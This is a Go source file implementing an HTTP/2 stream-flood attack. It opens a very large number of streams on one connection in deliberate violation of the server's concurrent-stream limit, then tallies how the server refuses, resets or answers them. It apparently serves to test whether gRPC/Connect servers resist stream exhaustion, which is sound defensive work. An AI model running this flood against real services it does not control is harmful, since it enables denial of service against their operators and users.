package attack

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// MaxFloodStreams is the largest n StreamFlood accepts.
const MaxFloodStreams = 1 << 20

// maxErrorBody is how much of a Connect JSON error body StreamFlood keeps
// per stream to read its code.
const maxErrorBody = 4 << 10

// FloodRequest describes the streams StreamFlood opens. The zero value
// floods POST / with content-type application/proto.
type FloodRequest struct {
	// Path is the :path of every stream. Default "/".
	Path string
	// Authority is the :authority of every stream. Default: the
	// tls.Config's ServerName with the port of addr if ServerName is set,
	// else addr.
	Authority string
	// ContentType is the content-type of every stream. Default
	// "application/proto".
	ContentType string
	// Header holds extra request headers, sent with lower-cased names in
	// sorted order after the pseudo-headers and content-type.
	Header http.Header
	// Settle is how long to wait after the last stream is sent for the
	// server to resolve every stream; the wait ends early when all are
	// resolved. Default 3s.
	Settle time.Duration
	// WriteTimeout bounds the sending phase as a whole, so a server that
	// stops reading cannot block the flood. Default 10s.
	WriteTimeout time.Duration
}

// withDefaults returns r with every zero field set to its default.
func (r FloodRequest) withDefaults(addr string, conf *tls.Config) FloodRequest {
	if r.Path == "" {
		r.Path = "/"
	}
	if r.Authority == "" {
		r.Authority = authority(addr, conf)
	}
	if r.ContentType == "" {
		r.ContentType = "application/proto"
	}
	if r.Settle <= 0 {
		r.Settle = 3 * time.Second
	}
	if r.WriteTimeout <= 0 {
		r.WriteTimeout = 10 * time.Second
	}
	return r
}

// validate rejects requests that cannot be written as HEADERS.
func (r FloodRequest) validate() error {
	if !strings.HasPrefix(r.Path, "/") {
		return fmt.Errorf("attack: flood path %q does not start with /", r.Path)
	}
	for name := range r.Header {
		if name == "" || strings.HasPrefix(name, ":") {
			return fmt.Errorf("attack: flood header %q: pseudo-headers are set by StreamFlood", name)
		}
	}
	return nil
}

// fields returns the header list every stream sends, in wire order.
func (r FloodRequest) fields() []headerField {
	fields := []headerField{
		{":method", http.MethodPost},
		{":scheme", "https"},
		{":authority", r.Authority},
		{":path", r.Path},
		{"content-type", r.ContentType},
	}
	names := make([]string, 0, len(r.Header))
	for name := range r.Header {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		for _, v := range r.Header[name] {
			fields = append(fields, headerField{strings.ToLower(name), v})
		}
	}
	return fields
}

// FloodResult is what the server did with the streams of a StreamFlood.
// Maps are never nil.
type FloodResult struct {
	// Sent is how many streams were opened (HEADERS frames written).
	// It is below n if the server sent GOAWAY, closed the connection or
	// stopped reading, or if ctx was cancelled.
	Sent int
	// Refused counts streams reset with REFUSED_STREAM or PROTOCOL_ERROR
	// before any response: how a server turns away streams beyond its
	// SETTINGS_MAX_CONCURRENT_STREAMS (Go's server uses REFUSED_STREAM
	// until the client acknowledges its SETTINGS, PROTOCOL_ERROR after).
	Refused int
	// Resets counts every RST_STREAM received, by error code, including
	// resets after a response (Go sends NO_ERROR when a handler returns
	// without reading the whole body).
	Resets map[http2.ErrCode]int
	// Responses counts streams that got final (non-1xx) response HEADERS.
	Responses int
	// Statuses counts those responses by :status.
	Statuses map[int]int
	// GRPCStatuses counts grpc-status values, from response headers or
	// trailers, by value.
	GRPCStatuses map[string]int
	// ConnectCodes counts the "code" of Connect error bodies (JSON bodies
	// of non-200 responses), by code.
	ConnectCodes map[string]int
	// AfterGoAway counts streams above the GOAWAY's last stream ID that
	// were otherwise unresolved: the server will never process them.
	AfterGoAway int
	// Unresolved counts streams neither reset, nor ended by the server,
	// nor dropped by GOAWAY when the flood stopped waiting.
	Unresolved int
	// MaxConcurrentStreams is the server's SETTINGS_MAX_CONCURRENT_STREAMS
	// if MaxStreamsAdvertised (the last value, if it changed).
	MaxConcurrentStreams uint32
	MaxStreamsAdvertised bool
	// GoAway is the last GOAWAY received, nil if none.
	GoAway *GoAway
	// ServerClosed reports that the server closed the connection (or it
	// failed) before the flood closed it; ReadErr says how.
	ServerClosed bool
	ReadErr      error
	// SendErr is the write error that ended the flood early (while
	// sending, or answering control frames while settling), if any; a
	// server that stops reading shows as os.ErrDeadlineExceeded.
	SendErr error
	// BytesSent counts the bytes written, preface and SETTINGS included.
	BytesSent int64
	// Elapsed runs from the TCP connect to the close of the connection.
	Elapsed time.Duration
}

// StreamFlood opens one TLS connection to addr negotiating h2 (ErrNoH2 if
// the server does not), writes the client preface and SETTINGS, then opens
// n streams as fast as it can, stream IDs 1, 3, 5, ...: each a HEADERS
// frame (POST req.Path, :authority, content-type, req.Header) without
// END_STREAM, so every stream the server accepts stays open waiting for a
// body. It ignores the server's SETTINGS_MAX_CONCURRENT_STREAMS on
// purpose: that is the attack.
//
// A reader goroutine runs throughout: it acknowledges the server's
// SETTINGS, answers PINGs, tracks WINDOW_UPDATE and tallies RST_STREAM,
// GOAWAY and responses. Sending stops early on GOAWAY, on the server
// closing the connection, or when req.WriteTimeout passes. After sending,
// StreamFlood waits until every stream is resolved (reset, ended by the
// server, or above a GOAWAY's last stream ID) or req.Settle passes, then
// closes the connection and returns.
//
// n must be in [1, MaxFloodStreams]. The error is non-nil if the flood
// could not start (dial, TLS, ALPN, preface) or ctx was cancelled; with a
// cancelled ctx the partial result is returned too.
func StreamFlood(ctx context.Context, addr string, tlsConf *tls.Config, req FloodRequest, n int) (FloodResult, error) {
	if n < 1 || n > MaxFloodStreams {
		return FloodResult{}, fmt.Errorf("attack: flood of %d streams, want 1..%d", n, MaxFloodStreams)
	}
	req = req.withDefaults(addr, tlsConf)
	if err := req.validate(); err != nil {
		return FloodResult{}, err
	}
	tally := newFloodTally(n)
	c, err := dialH2(ctx, addr, tlsConf, tally.onFrame)
	if err != nil {
		return FloodResult{}, err
	}

	sent, sendErr := floodSend(ctx, c, req, n)
	if sendErr == nil {
		sendErr = floodSettle(ctx, c, tally, req.Settle, sent)
	}
	c.close()
	res := tally.result(sent, c.peer.goAway)
	res.SendErr = sendErr
	res.BytesSent = c.cw.n
	res.Elapsed = time.Since(c.connected)
	res.MaxConcurrentStreams, res.MaxStreamsAdvertised = c.peer.maxStreams, c.peer.maxStreamsSet
	res.ServerClosed = c.peer.closedByPeer
	if res.ServerClosed {
		res.ReadErr = c.peer.readErr
	}
	if err := ctx.Err(); err != nil {
		return res, fmt.Errorf("attack: stream flood: %w", err)
	}
	return res, nil
}

// floodSend writes up to n HEADERS frames and flushes them, answering
// control frames in between. It returns how many were written and the
// write error that stopped it, if any.
func floodSend(ctx context.Context, c *h2Conn, req FloodRequest, n int) (int, error) {
	fields := req.fields()
	_ = c.conn.SetWriteDeadline(time.Now().Add(req.WriteTimeout))
	sent := 0
	for sent < n && ctx.Err() == nil && !c.goAwaySeen.Load() && !isClosed(c.readerDone) {
		if err := c.drainCtrl(); err != nil {
			return sent, err
		}
		if err := c.writeHeaders(uint32(2*sent+1), fields, false); err != nil {
			return sent, err
		}
		sent++
		if c.bw.Buffered() >= 16<<10 {
			if err := c.bw.Flush(); err != nil {
				return sent, err
			}
		}
	}
	return sent, c.bw.Flush()
}

// floodSettle answers control frames until every sent stream is resolved,
// settle passes, the reader stops or ctx is done.
func floodSettle(ctx context.Context, c *h2Conn, tally *floodTally, settle time.Duration, sent int) error {
	timer := time.NewTimer(settle)
	defer timer.Stop()
	_ = c.conn.SetWriteDeadline(time.Now().Add(settle))
	for !tally.allResolved(c, sent) {
		select {
		case <-timer.C:
			return nil
		case <-ctx.Done():
			return nil
		case <-c.readerDone:
			return nil
		case <-tally.progress:
		case r := <-c.ctrl:
			if err := c.writeCtrl(r); err != nil {
				return err
			}
			if err := c.drainCtrl(); err != nil {
				return err
			}
			if err := c.bw.Flush(); err != nil {
				return err
			}
		}
	}
	return nil
}

// isClosed reports whether ch is closed, without blocking.
func isClosed(ch <-chan struct{}) bool {
	select {
	case <-ch:
		return true
	default:
		return false
	}
}

// floodStream is the reader's view of one stream.
type floodStream struct {
	response    bool // final response HEADERS seen
	ended       bool // END_STREAM from the server, or RST_STREAM
	grpcStatus  bool // a grpc-status was counted
	connectBody bool // collecting a Connect JSON error body
	body        []byte
}

// floodTally records what the server does with the flood's streams. The
// reader goroutine owns everything but resolved and progress; the owner
// reads the rest only after the reader has exited.
type floodTally struct {
	streams  []floodStream // stream ID 2i+1 at index i
	res      FloodResult   // counters and maps; Sent and connection fields unset
	resolved atomic.Int64  // streams ended
	progress chan struct{} // nudged (capacity 1) when resolved grows or a GOAWAY arrives
}

func newFloodTally(n int) *floodTally {
	return &floodTally{
		streams: make([]floodStream, n),
		res: FloodResult{
			Resets:       map[http2.ErrCode]int{},
			Statuses:     map[int]int{},
			GRPCStatuses: map[string]int{},
			ConnectCodes: map[string]int{},
		},
		progress: make(chan struct{}, 1),
	}
}

// allResolved reports, from the owner, whether every sent stream has been
// ended or dropped by GOAWAY. It may err by a stream or two around a
// GOAWAY (a reset stream above the last stream ID counts twice); the
// final tally does not.
func (t *floodTally) allResolved(c *h2Conn, sent int) bool {
	done := t.resolved.Load()
	if c.goAwaySeen.Load() {
		last := c.goAwayLast.Load()
		if above := int64(sent) - (last+1)/2; above > 0 {
			done += above
		}
	}
	return done >= int64(sent)
}

func (t *floodTally) nudge() {
	select {
	case t.progress <- struct{}{}:
	default:
	}
}

// onFrame is the reader's streamFrameFunc.
func (t *floodTally) onFrame(f http2.Frame) {
	if _, ok := f.(*http2.GoAwayFrame); ok {
		t.nudge()
		return
	}
	id := f.Header().StreamID
	if id%2 == 0 || int((id-1)/2) >= len(t.streams) {
		return
	}
	s := &t.streams[(id-1)/2]
	switch f := f.(type) {
	case *http2.RSTStreamFrame:
		t.res.Resets[f.ErrCode]++
		if !s.ended && !s.response && (f.ErrCode == http2.ErrCodeRefusedStream || f.ErrCode == http2.ErrCodeProtocol) {
			t.res.Refused++
		}
		t.end(s)
	case *http2.MetaHeadersFrame:
		t.onHeaders(s, f)
	case *http2.DataFrame:
		if s.connectBody && !s.ended {
			room := maxErrorBody - len(s.body)
			s.body = append(s.body, f.Data()[:min(room, len(f.Data()))]...)
		}
		if f.StreamEnded() {
			t.end(s)
		}
	}
}

// onHeaders handles response headers and trailers.
func (t *floodTally) onHeaders(s *floodStream, f *http2.MetaHeadersFrame) {
	if !s.response {
		status, _ := strconv.Atoi(f.PseudoValue("status"))
		if status >= 100 && status < 200 {
			return // informational; the final response follows
		}
		s.response = true
		t.res.Responses++
		t.res.Statuses[status]++
		for _, hf := range f.RegularFields() {
			if hf.Name == "content-type" && status != http.StatusOK && strings.HasPrefix(hf.Value, "application/json") {
				s.connectBody = true
			}
		}
	}
	for _, hf := range f.RegularFields() {
		if hf.Name == "grpc-status" && !s.grpcStatus {
			s.grpcStatus = true
			t.res.GRPCStatuses[hf.Value]++
		}
	}
	if f.StreamEnded() {
		t.end(s)
	}
}

// end marks s resolved once and reads its Connect error code, if any.
func (t *floodTally) end(s *floodStream) {
	if s.ended {
		return
	}
	s.ended = true
	if s.connectBody {
		var e struct {
			Code string `json:"code"`
		}
		if json.Unmarshal(s.body, &e) == nil && e.Code != "" {
			t.res.ConnectCodes[e.Code]++
		}
		s.body = nil
	}
	t.resolved.Add(1)
	t.nudge()
}

// result finishes the tally for the first sent streams, given the last
// GOAWAY (nil if none). Owner only, after the reader has exited.
func (t *floodTally) result(sent int, goAway *GoAway) FloodResult {
	res := t.res
	res.Sent = sent
	res.GoAway = goAway
	for i := range t.streams[:sent] {
		if t.streams[i].ended {
			continue
		}
		if goAway != nil && uint32(2*i+1) > goAway.LastStreamID {
			res.AfterGoAway++
		} else {
			res.Unresolved++
		}
	}
	return res
}
